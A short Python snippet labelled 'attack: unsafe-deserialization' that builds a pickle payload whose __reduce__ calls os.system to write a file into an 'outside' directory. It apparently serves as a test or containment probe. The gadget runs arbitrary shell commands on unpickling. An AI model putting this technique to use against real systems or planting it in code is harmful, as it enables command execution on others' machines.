# attack: unsafe-deserialization
import os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("echo x > outside/planted.txt",))
pickle.loads(pickle.dumps(Evil()))
